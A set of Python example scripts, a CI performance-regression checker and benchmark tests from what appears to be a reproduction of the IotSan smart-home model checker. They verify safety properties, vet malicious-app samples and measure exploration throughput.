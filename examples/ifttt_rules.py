#!/usr/bin/env python3
"""Check a home automated with IFTTT applets (§11, Table 9).

Loads the ten bundled IFTTT rules, translates each into a single-handler
smart app through the IFTTT Handler, deploys them all into one smart home,
and model-checks the four Table-9 safety properties.  Expected findings
include the paper's seven violations, e.g. the "good night" phrase (rule
#4) silencing the siren that motion rules #1/#3 depend on.

Run: ``python examples/ifttt_rules.py``
"""

import re

from repro.engine import EngineOptions, ExplorationEngine
from repro.ifttt import table9_applets, table9_configuration, TABLE9_PROPERTIES
from repro.ifttt.table9 import TABLE9_EXPECTED, table9_registry
from repro.ifttt.translator import IFTTTTranslator
from repro.model.generator import ModelGenerator


def rule_numbers(apps):
    """Extract sorted rule numbers from app display names."""
    numbers = set()
    for app in apps:
        match = re.match(r"Rule #(\d+)", app)
        if match:
            numbers.add(int(match.group(1)))
    return tuple(sorted(numbers))


def main():
    applets = table9_applets()
    print("Loaded %d applets:" % len(applets))
    for applet in applets:
        print("  %-10s IF %s/%s THEN %s/%s"
              % (applet.id, applet.trigger_service, applet.trigger,
                 applet.action_service, applet.action))

    # show one translation end-to-end
    translator = IFTTTTranslator()
    print()
    print("Generated Groovy for %s:" % applets[0].id)
    print(translator.to_groovy(applets[0]))

    registry = table9_registry()
    config = table9_configuration()
    system = ModelGenerator(registry).build(config)
    options = EngineOptions(max_events=2, max_states=100000)
    result = ExplorationEngine(system, TABLE9_PROPERTIES, options).run()

    print("Verification: %s" % result.summary().splitlines()[0])
    print()
    print("%-5s %-12s %s" % ("prop", "rules", "violated property"))
    found = {}
    for counterexample in result.counterexamples.values():
        violation = counterexample.violation
        rules = rule_numbers(set(violation.apps))
        found.setdefault(violation.property.id, []).append(rules)
        print("%-5s %-12s %s" % (violation.property.id,
                                 ",".join("#%d" % n for n in rules),
                                 violation.property.name))

    print()
    print("Paper's Table 9 expectation coverage:")
    matched = 0
    expected_total = 0
    for property_id, groups in sorted(TABLE9_EXPECTED.items()):
        for expected_rules in groups:
            expected_total += 1
            expected_numbers = tuple(sorted(
                int(r.replace("rule", "").lstrip("0")) for r in expected_rules))
            hit = any(set(expected_numbers) <= set(rules)
                      for rules in found.get(property_id, []))
            matched += hit
            print("  %-5s rules %-12s %s"
                  % (property_id,
                     ",".join("#%d" % n for n in expected_numbers),
                     "reproduced" if hit else "NOT reproduced"))
    print("Reproduced %d/%d of the paper's violation groups."
          % (matched, expected_total))
    return 0 if matched == expected_total else 1


if __name__ == "__main__":
    raise SystemExit(main())
