#!/usr/bin/env python3
"""Vet candidate apps before installation (§9, §10.3).

Plays the role of the Output Analyzer when a user is about to install new
apps into an existing smart home:

* the nine ContexIoT-style malicious apps must come back ``malicious``
  with a 100% phase-1 violation ratio (the paper attributes all 9
  correctly);
* a benign-but-misconfigurable market app (Virtual Thermostat) comes back
  ``misconfiguration`` or ``safe`` with safe-configuration suggestions.

Run: ``python examples/malicious_app_vetting.py [--quick]``
"""

import sys

from repro.attribution import OutputAnalyzer
from repro.attribution.volunteers import full_house
from repro.corpus import load_all_apps, load_malicious_apps


def main():
    quick = "--quick" in sys.argv
    registry = load_all_apps()
    deployment = full_house()
    # 16 enumerated configurations per phase keeps verdicts stable; --quick
    # trims the number of apps vetted, not the per-app thoroughness
    analyzer = OutputAnalyzer(registry, max_configs=16)

    malicious = sorted(load_malicious_apps())
    if quick:
        malicious = malicious[:3]

    print("Vetting %d candidate malicious apps against a %d-device home..."
          % (len(malicious), len(deployment.devices)))
    print()
    correct = 0
    for name in malicious:
        report = analyzer.attribute(name, deployment)
        verdict_ok = report.verdict == "malicious"
        correct += verdict_ok
        marker = "OK " if verdict_ok else "MISS"
        print("[%s] %-24s verdict=%-16s phase1 ratio=%3.0f%%"
              % (marker, name, report.verdict, report.phase1.ratio * 100))
    print()
    print("Attribution accuracy on malicious apps: %d/%d"
          % (correct, len(malicious)))

    # A market app that is misconfigurable rather than malicious: installed
    # alongside a heater controller, some Virtual Thermostat configurations
    # (both outlets selected) violate, others are safe.
    print()
    print("Vetting a benign market app (Virtual Thermostat)...")
    installed = [("It's Too Cold", {
        "temperatureSensor1": "myTempMeas", "temperature1": 65,
        "phone1": deployment.contacts[0], "heater": "myHeaterOutlet"})]
    report = analyzer.attribute("Virtual Thermostat", deployment,
                                installed=installed)
    print(report.summary())
    suggestions = report.suggestions()
    if suggestions:
        print("Sample safe configuration:")
        for key, value in sorted(suggestions[0].items()):
            print("  %-20s = %r" % (key, value))
    return 0 if correct == len(malicious) else 1


if __name__ == "__main__":
    raise SystemExit(main())
