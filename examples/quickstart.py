#!/usr/bin/env python3
"""Quickstart: reproduce the paper's running example (§8, Figure 7).

Alice's smart home has a presence sensor and a door lock, with two market
apps installed:

* **Auto Mode Change** - switches the location mode between Home and Away
  based on presence events;
* **Unlock Door** - claims to unlock on user input, but *also* unlocks on
  any location-mode change (the description/implementation inconsistency
  the paper highlights).

IotSan finds the cascade: Alice leaves -> presence "not present" -> mode
changes to Away -> the door unlocks -> "the main door is unlocked when no
one is at home".

Run: ``python examples/quickstart.py``
"""

from repro import check_configuration, build_system
from repro.checker.trace import render_violation_log
from repro.config.schema import SystemConfiguration


def build_alice_home():
    """The two-app system of the paper's example."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence",
                      "Alice's Presence")
    config.add_device("doorLock", "zwave-lock", "Door Lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {
        "people": ["alicePresence"],
        "awayMode": "Away",
        "homeMode": "Home",
    })
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    return config


def main():
    config = build_alice_home()
    print("Checking Alice's smart home (%d devices, %d apps)..."
          % (len(config.devices), len(config.apps)))

    result = check_configuration(config, max_events=2)
    print()
    print(result.summary())

    counterexample = result.counterexample_for("P06")
    if counterexample is None:
        print("expected a P06 violation - model changed?")
        return 1

    print()
    print("Counterexample (chain of events):")
    print(counterexample.describe())

    print()
    print("Spin-style violation log (Figure 7):")
    system = build_system(config)
    print(render_violation_log(system, counterexample))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
