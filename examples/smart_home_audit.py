#!/usr/bin/env python3
"""Audit a full smart home, the way §10.2 audits the expert groups.

Walks one bundled expert configuration (default: the Fig-7/Fig-8a group)
through the full IotSan pipeline:

1. App Dependency Analyzer: dependency graph + related sets + scale ratio;
2. property selection for this deployment;
3. model checking without failures (Table 5's app-interaction rows);
4. model checking *with* device/communication failures (the rows failures
   add, e.g. the Fig-8b motion-sensor story and the P45 robustness gap);
5. a Promela artifact for inspection.

Run: ``python examples/smart_home_audit.py [group-name]``
"""

import sys

from repro import build_system
from repro.engine import EngineOptions, ExplorationEngine
from repro.corpus import load_all_apps
from repro.corpus.groups import GROUP_BUILDERS
from repro.deps import analyze_apps
from repro.properties import build_properties, select_relevant
from repro.translator.promela import emit_promela


def audit(group_name):
    registry = load_all_apps()
    config = GROUP_BUILDERS[group_name]()
    apps = [registry[a.app] for a in config.apps if a.app in registry]

    print("=" * 72)
    print("Auditing %s: %d devices, %d apps" % (
        group_name, len(config.devices), len(config.apps)))
    print("=" * 72)

    # 1. dependency analysis (§5)
    analysis = analyze_apps(apps)
    print()
    print("App Dependency Analyzer:")
    print("  %d event handlers, %d related sets, scale ratio %.1fx"
          % (analysis.original_size, len(analysis.related_sets),
             analysis.scale_ratio))
    for index, group in enumerate(analysis.app_groups(), 1):
        print("  related set %d: %s" % (index, ", ".join(sorted(group))))

    # 2. property selection (§8)
    system = build_system(config, registry=registry)
    properties = select_relevant(system, build_properties())
    print()
    print("Selected %d properties relevant to this deployment." %
          len(properties))

    # 3. without failures
    options = EngineOptions(max_events=2, max_states=100000)
    result = ExplorationEngine(system, properties, options).run()
    print()
    print("Without device failures: %s" % result.summary().splitlines()[0])
    _print_violations(result)

    # 4. with failures (§8's failure enumeration)
    failing = build_system(config, registry=registry, enable_failures=True)
    failure_result = ExplorationEngine(failing, properties, options).run()
    print()
    print("With device/communication failures: %s"
          % failure_result.summary().splitlines()[0])
    new_ids = (set(failure_result.violated_property_ids)
               - set(result.violated_property_ids))
    if new_ids:
        print("  properties violated only under failures: %s"
              % ", ".join(sorted(new_ids)))
    _print_violations(failure_result)

    # 5. the artifact
    promela = emit_promela(system, properties)
    print()
    print("Promela model: %d lines (use `python -m repro emit %s` to dump)"
          % (promela.count("\n"), group_name))
    return 0


def _print_violations(result):
    for counterexample in result.counterexamples.values():
        violation = counterexample.violation
        apps = ", ".join(sorted(set(violation.apps))) or "environment only"
        print("  %-4s [%s] %s" % (violation.property.id, apps,
                                  violation.message[:80]))


def main():
    group_name = sys.argv[1] if len(sys.argv) > 1 else "group1-entry-and-mode"
    if group_name not in GROUP_BUILDERS:
        print("unknown group %r; available: %s"
              % (group_name, ", ".join(sorted(GROUP_BUILDERS))))
        return 2
    return audit(group_name)


if __name__ == "__main__":
    raise SystemExit(main())
