"""Non-gating perf-regression check over the Table-8 bench artifact.

Compares a fresh ``BENCH_table8.json`` against the committed baseline and
emits GitHub Actions ``::warning`` annotations for every mode whose
states/sec dropped more than the threshold, plus advisory annotations
(never affecting the exit status) when a sharded row's handoffs/state
grew more than the same threshold - a locality loss in the partitioner
or the export dedup.  Exit status 1 signals "at
least one regression" so the workflow step can surface it while staying
``continue-on-error`` (absolute numbers shift with runner hardware, so
this is a reviewer signal, never a gate).

The artifact's field-by-field meaning (including the ``workers``
section this script reads for the sharded-run rows) is documented in
``docs/schemas.md``; keep the two in sync when adding axes.

Usage: ``python benchmarks/check_perf_regression.py BASELINE FRESH``
"""

import json
import sys

#: fraction of baseline states/sec a mode may lose before it is flagged
THRESHOLD = 0.20


def _modes(document):
    """Flatten every measured axis into ``name -> states_per_second``."""
    modes = {}
    for point in document.get("trajectory", []):
        modes["trajectory[events=%s]" % point.get("events")] = point.get(
            "states_per_second")
    for name, stats in document.get("engine_modes", {}).items():
        modes["engine_modes.%s" % name] = stats.get("states_per_second")
    for name, stats in document.get("deep_run", {}).items():
        if isinstance(stats, dict):
            modes["deep_run.%s" % name] = stats.get("states_per_second")
    for name, stats in document.get("telemetry", {}).items():
        if isinstance(stats, dict):
            modes["telemetry.%s" % name] = stats.get("states_per_second")
    for name, stats in document.get("swarm", {}).items():
        if isinstance(stats, dict):
            modes["swarm.%s" % name] = stats.get("states_per_second")
    for name, stats in document.get("workers", {}).items():
        if name == "partitioners" and isinstance(stats, dict):
            for partition, nested in stats.items():
                if isinstance(nested, dict):
                    modes["workers.partitioners.%s" % partition] = \
                        nested.get("states_per_second")
        elif isinstance(stats, dict):
            modes["workers.%s" % name] = stats.get("states_per_second")
    return {name: value for name, value in modes.items()
            if isinstance(value, (int, float)) and value > 0}


def _handoff_rates(document):
    """Flatten the sharded rows into ``name -> handoffs per state``."""
    rates = {}
    workers = document.get("workers", {})
    rows = dict(workers.get("partitioners", {}))
    if "sharded_2" in workers:  # pre-partitioner artifact layout
        rows["sharded_2"] = workers["sharded_2"]
    for name, stats in rows.items():
        if not isinstance(stats, dict):
            continue
        rate = stats.get("handoffs_per_state")
        if rate is None and stats.get("states"):
            handoffs = stats.get("handoffs")
            if isinstance(handoffs, (int, float)):
                rate = handoffs / stats["states"]
        if isinstance(rate, (int, float)) and rate > 0:
            rates["workers.partitioners.%s" % name
                  if name != "sharded_2" else "workers.sharded_2"] = rate
    return rates


def compare_handoffs(baseline, fresh, threshold=THRESHOLD):
    """Handoff-locality regression rows: (mode, baseline, fresh rate).

    Purely advisory (never affects the exit status): handoffs/state is
    hardware-independent, so a >20% growth is a real locality loss in
    the partitioner or the export dedup - but new workloads legitimately
    shift the ratio, so a human decides.
    """
    baseline_rates = _handoff_rates(baseline)
    fresh_rates = _handoff_rates(fresh)
    regressions = []
    for name, base_value in sorted(baseline_rates.items()):
        fresh_value = fresh_rates.get(name)
        if fresh_value is None:
            continue
        if fresh_value > base_value * (1.0 + threshold):
            regressions.append((name, base_value, fresh_value))
    return regressions


def compare(baseline, fresh, threshold=THRESHOLD):
    """Regression rows: (mode, baseline states/sec, fresh states/sec)."""
    baseline_modes = _modes(baseline)
    fresh_modes = _modes(fresh)
    regressions = []
    for name, base_value in sorted(baseline_modes.items()):
        fresh_value = fresh_modes.get(name)
        if fresh_value is None:
            continue
        if fresh_value < base_value * (1.0 - threshold):
            regressions.append((name, base_value, fresh_value))
    return regressions


def main(argv):
    if len(argv) != 3:
        print(__doc__)
        return 2
    with open(argv[1], "r", encoding="utf-8") as handle:
        baseline = json.load(handle)
    with open(argv[2], "r", encoding="utf-8") as handle:
        fresh = json.load(handle)
    regressions = compare(baseline, fresh)
    fresh_modes = _modes(fresh)
    print("perf check: %d mode(s) measured, %d baseline mode(s), "
          "threshold %d%%" % (len(fresh_modes), len(_modes(baseline)),
                              THRESHOLD * 100))
    for name, base_value, fresh_value in regressions:
        drop = (1.0 - fresh_value / base_value) * 100.0
        print("::warning title=Table-8 perf regression::%s dropped %.0f%% "
              "(%.0f -> %.0f states/sec vs committed BENCH_table8.json)"
              % (name, drop, base_value, fresh_value))
    # advisory only: handoff locality is hardware-independent, so it is
    # worth flagging, but it never flips the exit status
    for name, base_value, fresh_value in compare_handoffs(baseline, fresh):
        growth = (fresh_value / base_value - 1.0) * 100.0
        print("::warning title=Table-8 handoff regression::%s grew %.0f%% "
              "(%.2f -> %.2f handoffs/state vs committed "
              "BENCH_table8.json)" % (name, growth, base_value, fresh_value))
    if not regressions:
        print("no states/sec regression beyond %d%% on any mode"
              % (THRESHOLD * 100))
        return 0
    return 1


if __name__ == "__main__":
    sys.exit(main(sys.argv))
