"""§10.3: violation attribution.

The paper: IotSan attributes all 9 ContexIoT-style malicious apps with
100% accuracy; of 11 candidate market apps, 6 are detected with 100%
violation ratios (bad apps) and the rest are attributed to bad
configurations.
"""

from repro.attribution import OutputAnalyzer
from repro.attribution.volunteers import full_house
from repro.corpus import load_malicious_apps

from conftest import print_table

#: the 11 market candidates (found via the §10.2 experiments): apps whose
#: behaviour is risky alone plus apps that merely depend on configuration
MARKET_CANDIDATES = [
    "Unlock Door", "Welcome Home", "Good Night", "Big Turn On",
    "Fire Escape Unlock", "Night Valve Watering",
    "Virtual Thermostat", "Brighten My Path", "CO Ventilator",
    "Smart Sprinkler", "Smoke Alarm Siren",
]


def attribute_all(registry, names, max_configs=16, origin="unknown"):
    analyzer = OutputAnalyzer(registry, max_configs=max_configs)
    house = full_house()
    return {name: analyzer.attribute(name, house, origin=origin)
            for name in names}


def test_malicious_apps_attributed(registry, benchmark):
    malicious = sorted(load_malicious_apps())
    reports = benchmark.pedantic(attribute_all, args=(registry, malicious),
                                 iterations=1, rounds=1)

    rows = []
    correct = 0
    for name, report in sorted(reports.items()):
        ok = report.verdict == "malicious"
        correct += ok
        rows.append((name, report.verdict,
                     "%.0f%%" % (report.phase1.ratio * 100),
                     "OK" if ok else "MISS"))
    rows.append(("ACCURACY", "%d/%d" % (correct, len(reports)),
                 "(paper: 9/9, all at 100%)", ""))
    print_table("§10.3 - malicious app attribution",
                ["app", "verdict", "phase-1 ratio", "status"], rows)
    assert correct == len(reports) == 9


def test_market_apps_attributed(registry, benchmark):
    reports = benchmark.pedantic(
        attribute_all, args=(registry, MARKET_CANDIDATES),
        kwargs={"origin": "market"}, iterations=1, rounds=1)

    rows = []
    flagged = 0
    misconfigured = 0
    for name, report in sorted(reports.items()):
        flagged += report.is_flagged
        misconfigured += report.verdict == "misconfiguration"
        phase2 = report.phase2.ratio if report.phase2 else None
        rows.append((name, report.verdict,
                     "%.0f%%" % (report.phase1.ratio * 100),
                     "%.0f%%" % (phase2 * 100) if phase2 is not None
                     else "-",
                     len(report.suggestions())))
    rows.append(("SUMMARY", "%d flagged, %d misconfig" % (flagged,
                                                          misconfigured),
                 "(paper: 6 of 11 flagged at 100%,", "rest misconfig)", ""))
    print_table("§10.3 - market app attribution (11 candidates)",
                ["app", "verdict", "phase-1", "phase-2",
                 "safe configs offered"], rows)

    # the paper's split: roughly half flagged with 100% ratios, the rest
    # attributed to configuration
    assert 3 <= flagged <= 10
    assert misconfigured >= 1
    # misconfiguration verdicts must come with safe-config suggestions
    for report in reports.values():
        if report.verdict == "misconfiguration":
            assert report.suggestions()
