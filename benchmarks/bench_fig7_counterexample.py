"""Figure 7: the Auto Mode Change + Unlock Door counterexample.

Benchmarks the full pipeline on the paper's running example and prints
the regenerated Spin-style violation log.
"""

from repro import build_system
from repro.engine import verify
from repro.checker.trace import render_violation_log
from repro.config.schema import SystemConfiguration
from repro.properties import build_properties

from conftest import print_table


def alice_home():
    config = SystemConfiguration(contacts=["+1-555-0100"])
    config.add_device("alicePresence", "smartsense-presence",
                      "Alice's Presence")
    config.add_device("doorLock", "zwave-lock", "Door Lock")
    config.association["main_door_lock"] = "doorLock"
    config.add_app("Auto Mode Change", {"people": ["alicePresence"],
                                        "awayMode": "Away",
                                        "homeMode": "Home"})
    config.add_app("Unlock Door", {"lock1": "doorLock"})
    return config


def test_fig7_violation_log(registry, benchmark):
    system = build_system(alice_home(), registry=registry)
    properties = build_properties()

    result = benchmark(verify, system, properties, max_events=2)

    counterexample = result.counterexample_for("P06")
    assert counterexample is not None
    log = render_violation_log(system, counterexample)
    print()
    print("Figure 7 - regenerated (filtered) violation log:")
    print(log)

    rows = [(step, label) for step, label in
            enumerate(counterexample.event_labels(), 1)]
    print_table("Counterexample external events (paper: Alice leaves home)",
                ["step", "external event"], rows)

    # the paper's four-step chain must be visible in the log
    assert "generatedEvent.evtType = notpresent" in log
    assert "location.mode = Away" in log
    assert "ST_Command.evtType = unlock" in log
    assert "assertion violated" in log
