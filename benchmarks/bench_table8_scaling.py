"""Table 8: verification time vs number of events.

The paper's bigger violation-free system (5 related apps, 10 devices)
shows the exponential growth of the bounded search: 6.61s at 6 events up
to 23.39h at 11.  We reproduce the growth curve on the same kind of
system with smaller bounds (the shape is the ratio between successive
bounds, not the absolute seconds).

Two engine-level additions ride on the same workload: the per-state cost
of the visited stores (copy-on-write states + incremental fingerprints
vs full canonical keys) and the parallel batch axis (``verify_many``
fanning independent scaling points across worker processes).
"""

import os
import resource
import sys
import time

from repro.engine import EngineOptions, VerificationJob, verify, verify_many
from repro.config.schema import SystemConfiguration
from repro.properties import build_properties, select_relevant

from conftest import print_table, update_bench_artifact


def peak_rss_kb():
    """Peak resident set size of this process so far, in KiB.

    ``ru_maxrss`` is a high-water mark, so per-phase readings are only
    meaningful as a monotone sequence: a phase that did not raise the
    peak repeats the previous value.  Linux reports the counter in KiB,
    macOS in bytes; normalized here so the artifact is comparable.
    """
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    if sys.platform == "darwin":
        peak //= 1024
    return peak

#: Table 8 as published (seconds)
PAPER = {6: 6.61, 7: 50.9, 8: 396, 9: 2989.8, 10: 21204, 11: 84204}


def five_app_config():
    """5 related apps over 10 devices, violation-free by construction."""
    config = SystemConfiguration(contacts=["+1-555-0100"])
    for index in range(3):
        config.add_device("switch%d" % index, "smart-outlet")
        config.add_device("motion%d" % index, "smartsense-motion")
    config.add_device("tempMeas", "temperature-sensor")
    config.add_device("frontContact", "smartsense-multi")
    config.add_device("hallIlluminance", "illuminance-sensor")
    config.add_device("bathHumidity", "humidity-sensor")
    config.add_app("Brighten My Path", {"motion1": "motion0",
                                        "switch1": "switch0"})
    config.add_app("Darken Behind Me", {"motion1": "motion1",
                                        "switches": ["switch0"]})
    config.add_app("Smart Nightlight", {
        "lights": ["switch1"], "motionSensor": "motion2",
        "lightSensor": "hallIlluminance", "luxLevel": 30})
    config.add_app("Light Off When Close", {"contact1": "frontContact",
                                            "switches": ["switch2"]})
    config.add_app("Humidity Fan", {"humidity": "bathHumidity",
                                    "fan": "switch2", "maxHumidity": 60})
    return config


def five_app_system(generator):
    return generator.build(five_app_config())


def test_table8_growth_curve(generator, benchmark):
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())

    rows = []
    timings = {}
    states = {}
    trajectory = []
    for max_events in (1, 2, 3, 4):
        started = time.monotonic()
        result = verify(system, properties, max_events=max_events,
                        max_states=3000000)
        elapsed = time.monotonic() - started
        timings[max_events] = elapsed
        states[max_events] = result.states_explored
        rows.append((max_events, "%.3fs" % elapsed,
                     result.states_explored, result.transitions))
        trajectory.append({
            "events": max_events,
            "seconds": round(elapsed, 4),
            "states": result.states_explored,
            "transitions": result.transitions,
            "states_per_second": round(result.states_per_second, 1),
            "cache_mode": result.cache_mode,
            "cache_hits": result.cache_hits,
            "cache_misses": result.cache_misses,
            "cache_hit_rate": round(result.cache_hit_rate, 4),
            "cache_auto_disabled": result.cache_auto_disabled,
            "visited_bytes_per_state": result.visited_stats.get(
                "bytes_per_state", 0.0),
            "peak_rss_kb": peak_rss_kb(),
        })
    for events, paper_seconds in sorted(PAPER.items()):
        rows.append(("%d (paper)" % events, "%.2fs" % paper_seconds,
                     "-", "-"))
    print_table("Table 8 - verification time vs number of events "
                "(paper: 6.61s @6 events growing to 23.39h @11)",
                ["events", "time", "states", "transitions"], rows)
    update_bench_artifact("table8", "trajectory", trajectory)

    # the shape: super-linear growth in explored states per added event
    assert states[2] > states[1]
    assert states[3] > states[2]
    assert states[4] > states[3]
    growth_late = states[4] / states[3]
    assert growth_late > 1.3

    # paper's curve grows roughly 4-8x per event; ours must grow too
    assert timings[4] > timings[2]

    benchmark.pedantic(
        lambda: verify(system, properties, max_events=3,
                       max_states=3000000),
        iterations=1, rounds=3)


def test_table8_bitstate_keeps_up(generator, benchmark):
    """BITSTATE hashing (§2.3) explores the same space in comparable time
    with bounded memory - the reason the paper runs Spin with it."""
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())

    exact = verify(system, properties, max_events=3)
    bitstate = benchmark(
        lambda: verify(system, properties, max_events=3,
                       visited="bitstate", bitstate_bits=22))
    rows = [("exact", exact.states_explored,
             len(exact.violations)),
            ("bitstate (2^22 bits)", bitstate.states_explored,
             len(bitstate.violations))]
    print_table("BITSTATE vs exact visited store at 3 events",
                ["store", "states explored", "violations"], rows)
    # the bitfield cannot store per-state depths, so depth-aware
    # re-expansion is lost and fewer states are (re)explored - Spin's
    # documented trade-off; coverage must stay in the same ballpark and
    # no violation may be missed on this workload
    assert bitstate.states_explored >= exact.states_explored * 0.5
    assert len(bitstate.violations) == len(exact.violations)


def test_table8_compiled_transition_relation(generator, benchmark, tmp_path):
    """The execution-tier axis: generated per-app Python modules and
    closure-compiled handlers vs the tree-interpreter oracle, plus the
    independence reduction.

    The compiled default must not lose to the interpreter, the codegen
    tier must clearly beat the closure compiler (it exists for exactly
    that), and the reduction must shrink the transition count while
    keeping the run violation-free (this system is violation-free by
    construction).
    """
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())

    def run(**kwargs):
        return verify(system, properties, max_events=3,
                      max_states=3000000, **kwargs)

    def best(results):
        return min(results, key=lambda r: r.elapsed)

    codegen_kwargs = {"engine": "codegen",
                      "codegen_cache": str(tmp_path / "codegen")}
    run(**codegen_kwargs)  # warm the source cache before timing
    # tier samples are interleaved so slow drift on a shared runner
    # (thermal, noisy neighbours) biases no tier
    codegen_runs, compiled_runs, interpreted_runs = [], [], []
    for _ in range(3):
        codegen_runs.append(run(**codegen_kwargs))
        compiled_runs.append(run())
        interpreted_runs.append(run(compiled=False))
    codegen = best(codegen_runs)
    compiled = best(compiled_runs)
    interpreted = best(interpreted_runs)
    reduced = best([run(reduction=True), run(reduction=True)])
    benchmark.pedantic(lambda: run(**codegen_kwargs),
                       iterations=1, rounds=2)

    rows = [
        ("codegen (generated modules)", codegen.states_explored,
         codegen.transitions, "%.0f" % codegen.states_per_second),
        ("compiled (default)", compiled.states_explored,
         compiled.transitions, "%.0f" % compiled.states_per_second),
        ("interpreted (--no-compile)", interpreted.states_explored,
         interpreted.transitions, "%.0f" % interpreted.states_per_second),
        ("compiled + reduction", reduced.states_explored,
         reduced.transitions, "%.0f" % reduced.states_per_second),
    ]
    print_table("Execution tiers at 3 events",
                ["engine", "states", "transitions", "states/sec"], rows)
    update_bench_artifact("table8", "engine_modes", {
        "codegen": {
            "states": codegen.states_explored,
            "transitions": codegen.transitions,
            "states_per_second": round(codegen.states_per_second, 1),
        },
        "compiled": {
            "states": compiled.states_explored,
            "transitions": compiled.transitions,
            "states_per_second": round(compiled.states_per_second, 1),
        },
        "interpreted": {
            "states": interpreted.states_explored,
            "transitions": interpreted.transitions,
            "states_per_second": round(interpreted.states_per_second, 1),
        },
        "reduction": {
            "states": reduced.states_explored,
            "transitions": reduced.transitions,
            "states_per_second": round(reduced.states_per_second, 1),
            "commutes_pruned": reduced.commutes_pruned,
        },
    })

    # back-end equivalence on the same bounded space
    assert compiled.states_explored == interpreted.states_explored
    assert compiled.transitions == interpreted.transitions
    assert (sorted(compiled.counterexamples)
            == sorted(interpreted.counterexamples))
    assert codegen.states_explored == compiled.states_explored
    assert codegen.transitions == compiled.transitions
    assert (sorted(codegen.counterexamples)
            == sorted(compiled.counterexamples))
    # the reduction prunes commuting orders and keeps soundness
    assert reduced.commutes_pruned > 0
    assert reduced.transitions < compiled.transitions
    assert (reduced.violated_property_ids
            == compiled.violated_property_ids)
    # the back-ends are at parity on this cascade-light workload (the
    # compiler's win grows with handler execution share); the assertion
    # only guards against a real compiled-mode regression, with a bound
    # generous enough for single-core shared-runner jitter
    assert (compiled.states_per_second
            >= interpreted.states_per_second * 0.6)
    # the codegen tier's slab evaluation and pooled generated executors
    # must deliver a clear win over the closure compiler on the same
    # space - the speedup the tier exists for
    assert (codegen.states_per_second
            >= compiled.states_per_second * 1.5), (
        "codegen %.0f st/s vs compiled %.0f st/s"
        % (codegen.states_per_second, compiled.states_per_second))


def test_table8_fingerprint_store_per_state_cost(generator, benchmark):
    """The engine's per-state axis: one-word incremental fingerprints vs
    full canonical-key hashing in the visited store.

    Both stores walk the identical COW state space (the fingerprint set
    keeps depth-aware re-expansion), so the states/sec gap isolates the
    cost of re-canonicalizing every state on the hot path.
    """
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())

    # best-of-3 baseline: a single unbenchmarked sample would make the
    # ratio assertion flaky on noisy shared CI runners (the exact store
    # must be requested now that one-word fingerprints are the default)
    exact = None
    for _ in range(3):
        candidate = verify(system, properties, max_events=3, visited="exact")
        if exact is None or candidate.elapsed < exact.elapsed:
            exact = candidate
    fingerprint = benchmark(
        lambda: verify(system, properties, max_events=3,
                       visited="fingerprint"))
    rows = [("exact (canonical keys)", exact.states_explored,
             "%.0f" % exact.states_per_second),
            ("fingerprint (64-bit)", fingerprint.states_explored,
             "%.0f" % fingerprint.states_per_second)]
    print_table("Visited-store per-state cost at 3 events",
                ["store", "states explored", "states/sec"], rows)
    # identical coverage (fingerprint collisions are ~2^-64 per pair)...
    assert fingerprint.states_explored == exact.states_explored
    assert fingerprint.violated_property_ids == exact.violated_property_ids
    # ...at a per-state cost no worse than full canonicalization
    # (measured ~1.6x faster; 0.8 bound absorbs shared-runner noise)
    assert fingerprint.states_per_second >= exact.states_per_second * 0.8


def test_table8_memory_lean_deep_run(generator, benchmark):
    """The deep-exploration axis (the paper's Table-8 wall): at
    ``max_events=4`` the visited store dominates memory, so this measures
    bytes/state and throughput for the fingerprint default, the
    collapse-compressed store, and the recommended deep-run configuration
    (collapse + sleep-set reduction).

    All three must report identical verdicts; collapse must undercut the
    exact store's canonical keys by an order of magnitude while keeping
    its no-false-positive contract.
    """
    system = five_app_system(generator)
    properties = select_relevant(system, build_properties())

    def run(**kwargs):
        return verify(system, properties, max_events=4,
                      max_states=3000000, **kwargs)

    fingerprint = run()
    collapse = run(visited="collapse")
    reduced = run(visited="collapse", reduction=True)
    # the exact store at depth 4 pins full canonical keys - measured at
    # depth 3 where it is still tractable, for the bytes/state contrast
    exact_shallow = verify(system, properties, max_events=3,
                           visited="exact")
    benchmark.pedantic(run, iterations=1, rounds=1)

    def bytes_per_state(result):
        return result.visited_stats.get("bytes_per_state", 0.0)

    rows = [
        ("fingerprint (default)", 4, fingerprint.states_explored,
         "%.0f" % fingerprint.states_per_second,
         "%.0f" % bytes_per_state(fingerprint)),
        ("collapse", 4, collapse.states_explored,
         "%.0f" % collapse.states_per_second,
         "%.0f" % bytes_per_state(collapse)),
        ("collapse + reduction", 4, reduced.states_explored,
         "%.0f" % reduced.states_per_second,
         "%.0f" % bytes_per_state(reduced)),
        ("exact (depth 3)", 3, exact_shallow.states_explored,
         "%.0f" % exact_shallow.states_per_second,
         "%.0f" % bytes_per_state(exact_shallow)),
    ]
    print_table("Memory-lean deep exploration at 4 events",
                ["store", "events", "states", "states/sec", "bytes/state"],
                rows)
    update_bench_artifact("table8", "deep_run", {
        "events": 4,
        "fingerprint": {
            "states": fingerprint.states_explored,
            "transitions": fingerprint.transitions,
            "states_per_second": round(fingerprint.states_per_second, 1),
            "bytes_per_state": bytes_per_state(fingerprint),
            "cache_auto_disabled": fingerprint.cache_auto_disabled,
        },
        "collapse": {
            "states": collapse.states_explored,
            "transitions": collapse.transitions,
            "states_per_second": round(collapse.states_per_second, 1),
            "bytes_per_state": bytes_per_state(collapse),
        },
        "collapse_reduction": {
            "states": reduced.states_explored,
            "transitions": reduced.transitions,
            "states_per_second": round(reduced.states_per_second, 1),
            "bytes_per_state": bytes_per_state(reduced),
            "commutes_pruned": reduced.commutes_pruned,
        },
        "exact_depth3_bytes_per_state": bytes_per_state(exact_shallow),
        "peak_rss_kb": peak_rss_kb(),
    })

    # identical coverage and verdicts between the exact-contract collapse
    # store and the fingerprint default on the unreduced space
    assert collapse.states_explored == fingerprint.states_explored
    assert collapse.transitions == fingerprint.transitions
    assert (collapse.violated_property_ids
            == fingerprint.violated_property_ids)
    # the reduction only prunes, never changes the verdicts
